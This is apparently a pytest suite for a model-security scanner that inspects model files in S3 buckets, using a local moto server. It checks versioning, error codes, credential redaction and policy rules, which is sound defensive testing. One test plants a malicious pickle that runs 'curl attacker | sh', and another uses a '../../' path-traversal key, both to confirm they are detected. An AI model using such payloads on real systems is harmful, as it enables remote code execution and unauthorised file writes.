"""s3:// models scanned through the real boto3 client against moto's S3 server on loopback."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import logging
import os
from typing import Any

import numpy as np
import pytest
from flaky_proxy import FlakyProxy
from model_fixtures import malicious_pickle, torch_zip
from safetensors.numpy import save
from source_helpers import codes, free_port, outcome, s3_client, s3_config, s3_scan

from modelsec.policy import Outcome, evaluate, parse_group
from modelsec.rules.base import EvaluationInput, SourceType


def safetensors_bytes(mib: int) -> bytes:
    return save({"weight": np.zeros((mib, 256 * 1024), dtype=np.float32)})


@pytest.fixture
def prefix_model(moto_endpoint: str, bucket: str) -> dict[str, bytes]:
    files = {"model.safetensors": safetensors_bytes(1), "config.json": b'{"a": 1}'}
    s3 = s3_client(moto_endpoint)
    s3.put_object(
        Bucket=bucket,
        Key="team/model/model.safetensors",
        Body=files["model.safetensors"],
        ChecksumAlgorithm="SHA256",
    )
    s3.put_object(Bucket=bucket, Key="team/model/config.json", Body=files["config.json"])
    s3.put_object(Bucket=bucket, Key="team/model/", Body=b"")  # a console "folder" marker
    s3.put_object(Bucket=bucket, Key="team/other/x.bin", Body=b"not part of the model")
    return files


def test_prefix_is_a_model(moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]) -> None:
    scanned = s3_scan(f"s3://{bucket}/team/model/", s3_config(moto_endpoint))
    report = scanned.report
    assert scanned.source_type == SourceType.S3
    assert not report.all_incompletes()
    assert report.target == f"s3://{bucket}/team/model"
    assert report.locations == [f"s3://{bucket}/team/model/"]
    by_name = {f.path.rsplit("/", 1)[-1]: f for f in report.files}
    assert set(by_name) == set(prefix_model)
    weights = by_name["model.safetensors"]
    assert weights.format == "safetensors"
    # Read in part: the object's SHA-256 checksum is S3's claim, scoped to this endpoint,
    # bucket, key and ETag; the small config was read whole and hashed.
    checksum = hashlib.sha256(prefix_model["model.safetensors"]).hexdigest()
    etag = (
        s3_client(moto_endpoint)
        .head_object(Bucket=bucket, Key="team/model/model.safetensors")["ETag"]
        .strip('"')
    )
    assert weights.sha256 is None
    assert weights.digest == (
        f"claimed:sha256:{checksum}@{moto_endpoint}/{bucket}/team/model/model.safetensors@etag:{etag}"
    )
    assert by_name["config.json"].sha256 == hashlib.sha256(prefix_model["config.json"]).hexdigest()
    assert report.revision and report.revision.startswith("sha256:")
    assert scanned.metadata.revision == report.revision
    assert scanned.metadata.extra["versioning"] == "Off"
    # Same objects, same revision; the prefix without its slash is the same model.
    again = s3_scan(f"s3://{bucket}/team/model", s3_config(moto_endpoint))
    assert again.report.revision == report.revision
    assert again.report.fingerprint == report.fingerprint


def test_single_object(moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]) -> None:
    scanned = s3_scan(f"s3://{bucket}/team/model/model.safetensors", s3_config(moto_endpoint))
    report = scanned.report
    assert not report.all_incompletes()
    assert [f.path for f in report.files] == [f"s3://{bucket}/team/model/model.safetensors"]
    etag = (
        s3_client(moto_endpoint)
        .head_object(Bucket=bucket, Key="team/model/model.safetensors")["ETag"]
        .strip('"')
    )
    assert report.revision == f"etag:{etag}:{len(prefix_model['model.safetensors'])}"


def test_versioned_bucket_records_and_pins_versions(moto_endpoint: str, bucket: str) -> None:
    s3 = s3_client(moto_endpoint)
    s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})
    old = s3.put_object(Bucket=bucket, Key="m/model.pkl", Body=b"\x80\x02N.")["VersionId"]
    new = s3.put_object(Bucket=bucket, Key="m/model.pkl", Body=malicious_pickle())["VersionId"]
    s3.put_object(Bucket=bucket, Key="m/gone.bin", Body=b"x")
    s3.delete_object(Bucket=bucket, Key="m/gone.bin")  # latest is a delete marker

    prefix = s3_scan(f"s3://{bucket}/m/", s3_config(moto_endpoint))
    assert [f.path.rsplit("/", 1)[-1] for f in prefix.report.files] == ["model.pkl"]
    assert json.loads(prefix.metadata.extra["versions"]) == {"model.pkl": new}
    assert prefix.metadata.extra["versioning"] == "Enabled"

    latest = s3_scan(f"s3://{bucket}/m/model.pkl", s3_config(moto_endpoint))
    assert latest.report.revision == new
    pinned = s3_scan(f"s3://{bucket}/m/model.pkl@{old}", s3_config(moto_endpoint))
    assert pinned.report.revision == old
    assert pinned.report.files[0].sha256 == hashlib.sha256(b"\x80\x02N.").hexdigest()

    missing = s3_scan(f"s3://{bucket}/m/model.pkl@no-such-version", s3_config(moto_endpoint))
    assert codes(missing) == ["MS-SRC-005"]
    assert outcome(missing) == Outcome.ERROR


def test_pinned_prefix_that_changed_is_an_error(
    moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]
) -> None:
    first = s3_scan(f"s3://{bucket}/team/model/", s3_config(moto_endpoint)).report.revision
    s3_client(moto_endpoint).put_object(Bucket=bucket, Key="team/model/config.json", Body=b'{"a": 2}')
    pinned = s3_scan(f"s3://{bucket}/team/model/@{first}", s3_config(moto_endpoint))
    assert codes(pinned) == ["MS-SRC-005"]
    assert "no longer matches" in pinned.report.incompletes[0].reason


def test_large_object_transfers_a_small_fraction(moto_endpoint: str, bucket: str) -> None:
    data = safetensors_bytes(48)
    s3_client(moto_endpoint).put_object(Bucket=bucket, Key="big/model.safetensors", Body=data)
    report = s3_scan(f"s3://{bucket}/big/", s3_config(moto_endpoint)).report
    assert not report.all_incompletes()
    assert report.files[0].format == "safetensors"
    assert report.files[0].sha256 is None and report.files[0].digest  # ETag, not a full read
    assert report.bytes_transferred < 0.01 * len(data)


def test_malicious_pickle_and_torch_zip_are_found(moto_endpoint: str, bucket: str) -> None:
    s3 = s3_client(moto_endpoint)
    evil = malicious_pickle("curl attacker | sh")
    s3.put_object(Bucket=bucket, Key="evil/model.pkl", Body=evil)
    s3.put_object(
        Bucket=bucket, Key="evil/pytorch_model.bin", Body=torch_zip({"0": bytes(4096)}, pickle_bytes=evil)
    )
    scanned = s3_scan(f"s3://{bucket}/evil/", s3_config(moto_endpoint))
    flagged = {
        f.file.split("!")[0].rsplit("/", 1)[-1]
        for f in scanned.report.all_findings()
        if f.rule == "LoadTimeCodeExecution"
    }
    assert flagged == {"model.pkl", "pytorch_model.bin"}
    assert outcome(scanned) == Outcome.BLOCKED


# --- errors users will hit ----------------------------------------------------------------


def test_no_such_bucket(moto_endpoint: str) -> None:
    scanned = s3_scan("s3://no-such-bucket-xyz/model/", s3_config(moto_endpoint))
    assert codes(scanned) == ["MS-SRC-003"]
    assert "bucket 'no-such-bucket-xyz' does not exist" in scanned.report.incompletes[0].reason
    assert outcome(scanned) == Outcome.ERROR


def test_no_such_key_and_empty_prefix(moto_endpoint: str, bucket: str) -> None:
    key = s3_scan(f"s3://{bucket}/nothing/here.bin", s3_config(moto_endpoint))
    assert codes(key) == ["MS-SRC-008"]
    assert "no such object" in key.report.incompletes[0].reason
    empty = s3_scan(f"s3://{bucket}/nothing/", s3_config(moto_endpoint))
    assert codes(empty) == ["MS-SRC-008"]
    assert outcome(empty) == Outcome.ERROR


def test_bucket_access_denied(moto_with_auth: tuple[str, dict[str, str]]) -> None:
    endpoint, outsider = moto_with_auth
    config = {"endpoint": endpoint, **outsider, "retryBaseSeconds": 0.01}
    for uri in ("s3://locked/model/", "s3://locked/model/weights.bin"):
        scanned = s3_scan(uri, config)
        assert codes(scanned) == ["MS-SRC-004"], uri
        assert "access to bucket 'locked' denied" in scanned.report.incompletes[0].reason
        assert outcome(scanned) == Outcome.ERROR


def test_unknown_credentials(moto_with_auth: tuple[str, dict[str, str]]) -> None:
    endpoint, _ = moto_with_auth
    config = {"endpoint": endpoint, "accessKeyId": "AKIAUNKNOWN00000", "secretAccessKey": "s" * 30}
    scanned = s3_scan("s3://locked/model/", config)
    assert codes(scanned) == ["MS-SRC-004"]
    assert "rejected the credentials (InvalidAccessKeyId)" in scanned.report.incompletes[0].reason


def test_connection_refused() -> None:
    config = s3_config(f"http://127.0.0.1:{free_port()}", maxRetries=1, timeout=2)
    scanned = s3_scan("s3://bucket/model/", config)
    assert codes(scanned) == ["MS-SRC-007"]
    assert "cannot connect" in scanned.report.incompletes[0].reason


def test_throttling_is_retried_then_bounded(
    moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]
) -> None:
    proxy = FlakyProxy(moto_endpoint).start()
    try:
        proxy.slow_down_remaining = 3
        recovered = s3_scan(f"s3://{bucket}/team/model/", s3_config(proxy.url))
        assert not recovered.report.all_incompletes()
        assert proxy.statuses[:3] == [503, 503, 503]

        proxy.slow_down_remaining = 1000
        proxy.statuses.clear()
        throttled = s3_scan(f"s3://{bucket}/team/model/", s3_config(proxy.url, maxRetries=2))
        assert codes(throttled) == ["MS-SRC-006"]
        assert "gave up after 3 attempts" in throttled.report.incompletes[0].reason
        assert proxy.statuses.count(503) == 3
        assert outcome(throttled) == Outcome.ERROR
    finally:
        proxy.stop()


def test_object_replaced_during_scan_is_an_error(
    moto_endpoint: str, bucket: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    s3 = s3_client(moto_endpoint)
    s3.put_object(Bucket=bucket, Key="race/model.safetensors", Body=safetensors_bytes(1))
    from modelsec.sources import s3 as s3_source

    original = s3_source.S3Fetcher.fetch

    def replace_then_fetch(self: Any, start: int, end: int) -> bytes:
        s3.put_object(Bucket=bucket, Key="race/model.safetensors", Body=safetensors_bytes(2))
        return original(self, start, end)

    monkeypatch.setattr(s3_source.S3Fetcher, "fetch", replace_then_fetch)
    scanned = s3_scan(f"s3://{bucket}/race/", s3_config(moto_endpoint))
    assert "MS-SRC-009" in codes(scanned)
    assert "changed during the scan" in scanned.report.files[0].incompletes[-1].reason
    assert outcome(scanned) == Outcome.ERROR


def test_invalid_config(moto_endpoint: str) -> None:
    scanned = s3_scan("s3://b/m/", {"endpoint": moto_endpoint, "accessKeyId": "AKIAONLYKEY0000"})
    assert codes(scanned) == ["MS-SRC-002"]
    assert "must be given together" in scanned.report.incompletes[0].reason
    assert "AKIAONLYKEY0000" not in scanned.report.incompletes[0].reason


def test_credentials_never_in_reports_or_logs(
    moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)  # botocore logs signed headers at DEBUG
    config = s3_config(moto_endpoint, sessionToken="FwoGZXIvYXdzE-session-token-secret-0123")
    secrets = [str(config["accessKeyId"]), str(config["secretAccessKey"]), str(config["sessionToken"])]
    ok = s3_scan(f"s3://{bucket}/team/model/", config)
    failed = s3_scan("s3://no-such-bucket-abc/m/", config)
    assert not ok.report.all_incompletes() and codes(failed) == ["MS-SRC-003"]
    for result in (ok, failed):
        text = json.dumps(dataclasses.asdict(result.report), default=str) + repr(result.metadata)
        assert not [s for s in secrets if s in text]
    assert "X-Amz-Security-Token" in caplog.text or "x-amz-security-token" in caplog.text.lower()
    assert not [s for s in secrets if s in caplog.text]


def test_cli_scans_s3_reference_with_environment_credentials(
    moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]
) -> None:
    import subprocess
    import sys

    from source_helpers import ADMIN

    env = {
        **os.environ,
        "AWS_ENDPOINT_URL": moto_endpoint,
        "AWS_ACCESS_KEY_ID": ADMIN["aws_access_key_id"],
        "AWS_SECRET_ACCESS_KEY": ADMIN["aws_secret_access_key"],
        "AWS_DEFAULT_REGION": "us-east-1",
    }
    run = subprocess.run(
        [sys.executable, "-m", "modelsec.cli.main", "scan", f"s3://{bucket}/team/model/", "--format", "json"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert run.returncode in (0, 1), run.stderr
    assert "model.safetensors" in run.stdout
    assert "MS-SRC" not in run.stdout


def test_keys_that_escape_the_prefix_are_not_laid_out(moto_endpoint: str, bucket: str, tmp_path: Any) -> None:
    s3 = s3_client(moto_endpoint)
    s3.put_object(Bucket=bucket, Key="m/config.json", Body=b"{}")
    s3.put_object(Bucket=bucket, Key="m/../../escape.py", Body=b"import os")
    scanned = s3_scan(f"s3://{bucket}/m/", s3_config(moto_endpoint, tempDir=str(tmp_path)))
    layout = [i for i in scanned.report.incompletes if i.code == "MS-SRC-013"]
    assert layout and "'../../escape.py'" in layout[0].reason
    assert outcome(scanned) == Outcome.ERROR
    assert os.listdir(tmp_path) == []  # nothing written outside (or left inside) the temp area


def test_approved_location_applies_to_bucket_prefixes(
    moto_endpoint: str, bucket: str, prefix_model: dict[str, bytes]
) -> None:
    scanned = s3_scan(f"s3://{bucket}/team/model/", s3_config(moto_endpoint))
    group = parse_group(
        {"rules": [{"name": "ApprovedLocation", "params": {"approvedLocations": [f"s3://{bucket}/team"]}}]},
        "t",
        "t",
    )
    given = EvaluationInput(scanned.report, scanned.source_type, scanned.metadata)
    assert evaluate(group, given).outcome == Outcome.ALLOWED
    other = parse_group(
        {"rules": [{"name": "ApprovedLocation", "params": {"approvedLocations": [f"s3://{bucket}/prod"]}}]},
        "t",
        "t",
    )
    assert evaluate(other, given).outcome == Outcome.BLOCKED


def test_timeout_when_the_endpoint_never_answers() -> None:
    import socket
    import threading

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    accepted: list[socket.socket] = []
    stop = threading.Event()

    def accept() -> None:  # accept connections, never answer
        listener.settimeout(0.1)
        while not stop.is_set():
            try:
                accepted.append(listener.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        endpoint = f"http://127.0.0.1:{listener.getsockname()[1]}"
        scanned = s3_scan("s3://bucket/model/", s3_config(endpoint, timeout=0.3, maxRetries=1))
        assert codes(scanned) == ["MS-SRC-007"]
        assert "timeout" in scanned.report.incompletes[0].reason
        assert outcome(scanned) == Outcome.ERROR
    finally:
        stop.set()
        thread.join(2)
        for conn in accepted:
            conn.close()
        listener.close()
